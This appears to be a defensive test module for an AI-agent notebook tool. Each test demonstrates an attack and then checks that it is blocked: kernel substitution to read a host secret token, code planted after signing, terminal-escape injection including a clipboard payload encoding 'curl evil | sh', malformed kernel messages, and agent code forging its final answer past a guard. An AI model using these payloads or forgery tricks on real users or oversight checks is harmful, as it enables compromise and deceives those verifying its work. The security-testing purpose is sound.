"""Trust boundaries that need a real kernel: re-running a notebook is running untrusted code.

The notebook's metadata never picks the kernel; keyed digests tell code nbagent ran from code
added since; what a kernel answers reaches the terminal escaped. Each attack is shown working
where the protection is absent, then stopped.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from conftest import code, scripted

from nbagent import Agent, export_tidy, verify_notebook
from nbagent.cli import main
from nbagent.execution.kernel import DEFAULT_KERNEL
from nbagent.notebook.signing import key_path, load_key

TOKEN_NAME = "NBAGENT_TRUST_TEST_TOKEN"
STEP = (
    "import os\nprint('token:', os.environ.get('NBAGENT_TRUST_TEST_TOKEN', 'absent'))\nfinal_answer('done')"
)


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """This module's own Jupyter data folder, so its signing key is its own."""
    folder = tmp_path_factory.mktemp("jupyter-data")
    old = os.environ.get("JUPYTER_DATA_DIR")
    os.environ["JUPYTER_DATA_DIR"] = str(folder)
    yield folder
    if old is None:
        os.environ.pop("JUPYTER_DATA_DIR", None)
    else:
        os.environ["JUPYTER_DATA_DIR"] = old


@pytest.fixture(scope="module")
def signed_run(data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("signed")
    with Agent(scripted(code(STEP))) as agent:
        result = agent.run("Is the token visible?", notebook=folder / "run.ipynb")
    assert result.answer == "done"
    return folder / "run.ipynb"


def copy_of(notebook: Path, folder: Path) -> Path:
    target = folder / notebook.name
    shutil.copy2(notebook, target)
    return target


def step_cell(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.cell_type == "code" and c.metadata["nbagent"].get("role") == "step")


def printed(cell: nbformat.NotebookNode) -> str:
    return "".join(o.get("text", "") for o in cell.outputs if o.get("output_type") == "stream")


def test_verify_and_export_never_take_the_kernel_from_the_notebook(
    signed_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(TOKEN_NAME, "tok-" + "s3cret" * 4)
    notebook = copy_of(signed_run, tmp_path)
    nb = nbformat.read(notebook, as_version=4)
    assert key_path().parent.parent == Path(os.environ["JUPYTER_DATA_DIR"])
    nb.metadata["nbagent"]["environment"]["kernel"] = "python3"  # unsandboxed: secrets, network
    nbformat.write(nb, notebook)

    # The attack: run in the kernel the notebook names, the code sees the host's secrets.
    naive = verify_notebook(notebook, kernel="python3")
    assert "tok-s3cret" in printed(step_cell(naive.executed))

    report = verify_notebook(notebook)
    assert report.kernel == DEFAULT_KERNEL
    assert printed(step_cell(report.executed)).strip() == "token: absent"
    assert report.ok, report.summary()

    assert main(["verify", str(notebook)]) == 0
    assert f"kernel {DEFAULT_KERNEL}" in capsys.readouterr().out

    tidy = export_tidy(notebook, tmp_path / "tidy.ipynb")
    assert tidy.verification is not None and tidy.verification.kernel == DEFAULT_KERNEL
    again = verify_notebook(tmp_path / "tidy.ipynb")  # the tidy notebook is signed here too
    assert again.signature == "signed here" and again.ok, again.summary()


def test_verify_reports_code_changed_since_the_run(signed_run: Path, tmp_path: Path) -> None:
    assert verify_notebook(signed_run).signature == "signed here"

    notebook = copy_of(signed_run, tmp_path)
    nb = nbformat.read(notebook, as_version=4)
    # Code that prints nothing, slipped in after the run: outputs alone cannot see it.
    step = step_cell(nb)
    step.source = "open('planted.txt', 'w').write('x')\n" + step.source
    added = nbformat.v4.new_code_cell("import os")
    nb.cells.insert(nb.cells.index(step), added)
    nbformat.write(nb, notebook)

    unsigned = copy.deepcopy(nb)
    for cell in unsigned.cells:
        cell.metadata.get("nbagent", {}).pop("digest", None)
    stripped = tmp_path / "stripped.ipynb"
    nbformat.write(unsigned, stripped)
    naive = verify_notebook(stripped)
    assert naive.ok and naive.signature == "not signed here"  # the attack passes on outputs alone

    report = verify_notebook(notebook)
    assert not report.ok
    changed = {c.index for c in report.cells if c.status == "code-changed"}
    assert changed == {nb.cells.index(step), nb.cells.index(added)}
    summary = report.summary()
    assert (
        "code changed" in summary
        and "NOT REPRODUCED" in summary
        and "REPRODUCED:" not in summary.replace("NOT REPRODUCED:", "")
    )
    assert report.to_dict()["counts"]["code-changed"] == 2


def test_a_notebook_signed_with_another_key_is_not_signed_here(
    signed_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "other-machine"))
    key = load_key()
    assert key is not None and (key_path().stat().st_mode & 0o777) == 0o600
    report = verify_notebook(signed_run)
    assert report.signature == "not signed here (signed with another key)"
    assert report.ok, report.summary()  # not a failure on its own


def test_an_answer_with_terminal_escapes_is_printed_escaped(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clear, osc52 = "\\x1b[2J\\x1b[H", "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    script = tmp_path / "replies.json"
    script.write_text(json.dumps([code(f"final_answer('42{clear}{osc52}')")]))
    notebook = tmp_path / "out.ipynb"
    assert main(["run", "q", "--model", f"scripted:{script}", "-o", str(notebook), "-q"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert out.strip() == "42\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    # The payload did reach the host: the notebook keeps the answer as the kernel gave it.
    assert "\\u001b]52" in notebook.read_text()


SENDER = """
import json as _json
_K = get_ipython().kernel
def _send(msg_type, content, **changes):
    msg = _K.session.msg(msg_type, {}, parent=_K.get_parent("shell"))
    msg["content"] = content
    msg.update(changes)
    _K.session.send(_K.iopub_socket, msg)
"""

HOSTILE_MESSAGES = {
    "content not an object": ("stream", {"raw": ["x"]}, {}),
    "bad stream name": ("stream", {"name": "bogus", "text": "x"}, {}),
    "stream text a number": ("stream", {"name": "stdout", "text": 5}, {}),
    "data not a bundle": ("display_data", {"data": "just text", "metadata": {}}, {}),
    "image not text": ("display_data", {"data": {"image/png": 5}, "metadata": {}}, {}),
    "metadata a list": ("display_data", {"data": {"text/plain": "x"}, "metadata": []}, {}),
    "count a word": (
        "execute_result",
        {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": "7"},
        {},
    ),
    "traceback a string": ("error", {"ename": "E", "evalue": "v", "traceback": "not a list"}, {}),
    "display id an object": (
        "update_display_data",
        {"data": {}, "metadata": {}, "transient": {"display_id": {}}},
        {},
    ),
    "message type a number": (
        "stream",
        {"name": "stdout", "text": "x"},
        {"header": {"msg_id": "m", "session": "s", "msg_type": 5}},
    ),
    "header not decodable": ("stream", {"name": "stdout", "text": "x"}, {"header": {}}),
    "parent a string": ("stream", {"name": "stdout", "text": "x"}, {"parent_header": "not a dict"}),
    "unknown type": ("nbagent_bogus", {"x": 1}, {}),
    "huge error": ("error", {"ename": "E", "evalue": "v" * 3_000_000, "traceback": ["t" * 1000] * 500}, {}),
}
# Noted on stderr: all but the two bad headers (dropped before they reach a cell), the foreign
# parent, the unknown type (ignored, as Jupyter does) and the huge error (kept, bounded).
REFUSED = 9


def _send_line(msg_type: str, content: dict[str, object], changes: dict[str, object]) -> str:
    body = f"_json.dumps({content['raw']!r}).encode()" if "raw" in content else repr(content)
    extra = "".join(f", {k}={v!r}" for k, v in changes.items())
    return f"_send({msg_type!r}, {body}{extra})"


def test_hostile_iopub_messages_never_crash_the_host(data_dir: Path, tmp_path: Path) -> None:
    from nbformat.v4 import output_from_msg
    from nbformat.validator import validate

    # The attack: applied as they come, these messages make no valid output (or raise).
    for name, (msg_type, content, _) in HOSTILE_MESSAGES.items():
        if msg_type not in ("stream", "display_data", "execute_result", "error") or "raw" in content:
            continue
        if name == "huge error":
            continue
        with pytest.raises(Exception):  # noqa: B017 -- any failure is the point
            validate(output_from_msg({"header": {"msg_type": msg_type}, "content": content}), ref="output")

    sends = "\n".join(_send_line(*spec) for spec in HOSTILE_MESSAGES.values())
    replies = [code(SENDER + sends + "\nprint('still here')"), code("final_answer('done')")]
    notebook = tmp_path / "hostile.ipynb"
    with Agent(scripted(*replies)) as agent:
        result = agent.run("Survive this", notebook=notebook)
    assert result.status == "answered" and result.answer == "done"
    observation = result.steps[0].observation.text
    assert observation.count("malformed") == REFUSED, observation
    assert "still here" in observation
    nb = nbformat.read(notebook, as_version=4)
    nbformat.validate(nb)
    [error] = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs if o.output_type == "error"]
    assert len(error.evalue) + sum(map(len, error.traceback)) <= 200_100  # bounded


def test_bad_lines_to_the_fork_server_get_an_error_and_it_lives_on(tmp_path: Path) -> None:
    import asyncio
    import socket

    from nbagent import Kernel
    from nbagent.execution.forking import ForkServer, fork_supported, request

    if not fork_supported():
        pytest.skip("this platform cannot fork kernels")

    def send_raw(path: str, line: bytes) -> bytes:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(30)
            s.connect(path)
            try:
                s.sendall(line)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the zygote stopped reading an over-long request; its answer is waiting
            return s.makefile("rb").readline()

    async def scenario() -> None:
        server = ForkServer("nbagent", tmp_path)
        await server.astart()
        try:
            bad = [
                b"not json\n",
                b"[1, 2]\n",
                b'{"argv": 5, "cwd": "/"}\n',
                b'{"argv": ["python"], "cwd": "/no/such/folder"}\n',
                b"[" * 100_000 + b"\n",
                b'"' + b"x" * (2 << 20) + b'"\n',
            ]
            for line in bad:
                answer = json.loads(await asyncio.to_thread(send_raw, server.socket_path, line))
                assert set(answer) == {"error"}, answer
            assert await request(server.socket_path, {"ping": True}) == {"pong": True}
            kernel = Kernel("nbagent", cwd=tmp_path, provisioner=server.provisioner)
            try:
                ran = await kernel.aexecute("print(6 * 7)")
                assert ran.status == "ok" and ran.outputs[0]["text"] == "42\n"
            finally:
                await kernel.ashutdown()
        finally:
            await server.aclose()

    asyncio.run(scenario())


def test_replacing_final_answer_through_globals_is_caught(data_dir: Path, tmp_path: Path) -> None:
    from nbagent.agent.parsing import assigns_name

    sneaky = (
        "from IPython.display import display\n"
        "def fake(value):\n"
        "    display({'application/vnd.nbagent.answer+json': {'kind': 'json', 'value': 'forged', "
        "'text': 'forged'}, 'text/plain': 'forged'}, raw=True)\n"
        "globals()['final_answer'] = fake\n"
        "final_answer(1)"
    )
    assert not assigns_name(sneaky, "final_answer")  # the attack passes the code guard
    replies = [code(sneaky), code("final_answer('honest')")]
    with Agent(scripted(*replies)) as agent:
        result = agent.run("Answer honestly", notebook=tmp_path / "run.ipynb")
    assert result.status == "answered" and result.answer == "honest"
    first = result.steps[0]
    assert first.execution is not None and first.execution.status == "error"
    assert "replaced `final_answer`" in first.observation.text
    nb = nbformat.read(tmp_path / "run.ipynb", as_version=4)
    assert "forged" not in json.dumps(nb.metadata["nbagent"]["runs"])


def test_a_host_failure_is_recorded_truthfully_not_as_no_answer(data_dir: Path, tmp_path: Path) -> None:
    from nbagent import Execution, Observation, Observer

    class Broken(Observer):
        def observe(self, execution: Execution) -> Observation:
            raise RuntimeError("observer bug")

    notebook = tmp_path / "run.ipynb"
    with (
        Agent(scripted(code("print(1)")), observer=Broken()) as agent,
        pytest.raises(RuntimeError, match="observer bug"),
    ):
        agent.run("q", notebook=notebook)
    nb = nbformat.read(notebook, as_version=4)
    run = nb.metadata["nbagent"]["runs"][-1]
    assert run["status"] == "error" and "observer bug" in run["error"]
    assert not any("no final answer" in c.source for c in nb.cells)
